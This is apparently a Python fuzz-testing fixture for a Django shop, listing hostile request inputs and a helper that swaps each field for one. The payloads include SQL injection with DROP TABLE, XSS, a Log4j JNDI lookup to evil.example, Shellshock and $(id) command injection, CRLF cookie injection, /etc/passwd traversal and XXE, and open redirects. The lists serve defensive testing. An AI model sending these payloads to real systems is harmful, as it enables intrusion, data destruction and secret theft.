"""What somebody sends who means no good."""

import json
from collections.abc import Iterator
from typing import Any

TEXTS = [
    "' OR 1=1; DROP TABLE orders_order; --",
    '"><script>alert(1)</script>',
    "{{ settings.SECRET_KEY }}{% debug %}",
    "${jndi:ldap://evil.example/a} $(id) `id` %(password)s {0.__class__}",
    "first\r\nSet-Cookie: sessionid=evil\r\n\r\nHTTP/1.1 200 OK",
    "a\0b",
    "\ud800",
    "\u202egnp.exe\u2066",
    "../../../../etc/passwd",
    "x" * 100_000,
    "",
]
NUMBERS = [-1, -(2**63), 0, 2**31, 2**63, 2**64, 10**400, 1.5, 1e308, "1", True, [1], {"a": 1}]
NOT_JSON = [
    b"",
    b"{",
    b"\xff\xfe\x00",
    b'{"email": "\xff"}',
    b"\0",
    b"NaN",
    b"[" * 60_000,
    b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    b"1" * 60_000,
    b'"' + b"x" * 60_000,
    b"[]",
    b"null",
    b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
]
CONTENT_TYPES = [
    "",
    "text/plain",
    "application/xml",
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=nobody-knows",
    "application/json; charset=utf-16",
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=" + "x" * 1000,
    "multipart/form-data; boundary=\xff",
    "\0",
    "x" * 5_000,
]
QUERIES = [
    "?%00=%00",
    "?q=%ff%fe&after=%ff&page=%ff&language=%ff",
    "?q=%00&after=%00&page=%00&status=%00&type=%00&form=%00&sort=%00",
    "?category=%00",
    "?page=99999999999999999999&p=99999999999999999999&after=99999999999999999999&after=evt_9999999999999999999",
    "?page=-1&p=-1&after=-1&all=&e=1",
    "?q=%27%20OR%201%3D1--&o=-1.2.999.x&status__exact=x&created_at__gte=never&id__in=a,b",
    "?password__startswith=a&user__password__startswith=pbkdf2&_popup=1&_to_field=password",
    "?order__code__regex=(a%2B)%2B%24&drf__year=99999999999",
    "?" + "a=1&" * 1_100,
    "?q=" + "x" * 10_000,
    "?next=%0d%0aSet-Cookie:%20evil=1",
]
HEADERS: list[dict[str, str]] = [
    {"Cookie": "sessionid=\xff\0'; csrftoken=; django_language=../../x; messages=x"},
    {"Cookie": "sessionid=" + "a" * 4_000},
    {"Cookie": "messages=!!!; orderly_waiting=!!!; csrftoken=" + "x" * 32},
    {"Accept-Language": "ko," * 2_000},
    {"Accept-Language": "x" * 600 + ";q=99999, \xff"},
    {"Accept-Encoding": "gzip;q=x, \0", "Accept": "\xff/*;q=nan"},
    {"If-None-Match": '"' * 500, "If-Modified-Since": "never", "Range": "bytes=0-,-1"},
    {"If-None-Match": 'W/"\xff", *', "If-Match": "*", "If-Unmodified-Since": "Thu, 99 Foo 99999 99:99:99 GMT"},
    {"X-Forwarded-For": "\xff, ::1, 127.0.0.1", "X-Forwarded-Proto": "https", "X-Forwarded-Host": "evil.example"},
    {"X-Forwarded-For": "1.2.3.4," * 3_000, "Forwarded": "for=evil;host=evil.example"},
    {"X-HTTP-Method-Override": "DELETE", "X-Original-URL": "/admin/", "X-Rewrite-Url": "/admin/"},
    {"HX-Request": "true", "HX-Current-URL": "javascript:alert(1)", "X-Requested-With": "XMLHttpRequest"},
    {"Referer": "https://evil.example/\xff", "Origin": "null", "User-Agent": "() { :; }; \0"},
]
PATHS = [
    "/%00",
    "/%ff%fe",
    "/..%2f..%2fetc/passwd",
    "/static/..%2f..%2fmanage.py",
    "/static/%00",
    "//evil.example/",
    "/%0d%0aSet-Cookie:%20evil=1",
    "/products/%ff/%ff/",
    "/products/a/%00/",
    "/products/a/" + "x" * 9_000 + "/",
    "/orders/000000-00000-0000%00/",
    "/orders/261124-GH0ST-GH0ST/%00",
    "/api/%00",
    "/api/v1/products/%ff",
    "/api/v1/products/" + "%F0%9F%9A%80" * 2_000,
    "/api/v1/stock/%00/adjustments",
    "/api/v1/orders/%00/cancel",
    "/api/v1/orders/" + "9" * 18,
    "/account/sign-up/%ff/",
    "/account/sign-up/%00/",
    "/account/sign-up/" + "x:" * 3_000 + "/",
    "/account/verify/a:b:c/",
    "/account/password/%00/%00/",
    "/account/password/OTk5OTk5OTk5OTk5OTk5OTk5OTk5/set-password/",
    "/admin/orders/order/%00/change/",
    "/admin/orders/order/99999999999999999999/change/",
    "/admin/orders/order/99999999999999999999/refund/",
    "/admin/catalog/product/%ff/change/",
    "/admin/catalog/stock/99999999999999999999/adjust/",
    "/admin/r/99999999999999999999/1/",
    "/admin/audit/difference/99999999999999999999/remedy/x/",
    "/admin/accounts/user/_3B/password/",
    "/payments/webhooks/stripe/%00",
]
ELSEWHERE = [
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "https:evil.example",
    "javascript:alert(1)",
    "data:text/html,x",
    "http://127.0.0.1@evil.example/",
    "/%09/evil.example\r\nSet-Cookie: evil=1",
    "\t//evil.example/",
]


def change_fields(fields: Any, *, free: tuple[str, ...] = ()) -> Iterator[tuple[str, Any]]:
    """The fields with each of them, at any depth, made hostile in turn, and the name of it."""
    for name, value in fields.items():
        for wrong in _make_wrong(value, is_free=name in free):
            yield name, fields | {name: wrong}
        if isinstance(value, list):
            for inner, changed in change_fields(value[0]):
                yield f"{name}[0].{inner}", fields | {name: [changed]}
    yield "is_staff", fields | {"is_staff": True}


def _make_wrong(value: Any, *, is_free: bool) -> Iterator[Any]:
    if isinstance(value, str):
        yield from ([] if is_free else TEXTS)
        yield from (1, True, ["x"], {"a": "x"})
    elif isinstance(value, bool):
        yield from ("yes", 2, [], "x" * 1000)
    elif isinstance(value, int):
        yield from (*NUMBERS, *TEXTS[:6])
    else:
        yield from (TEXTS[0], 1, True, [[]], [{}], [1], {"a": float("nan")})


def write(fields: Any) -> bytes:
    return json.dumps(fields).encode()
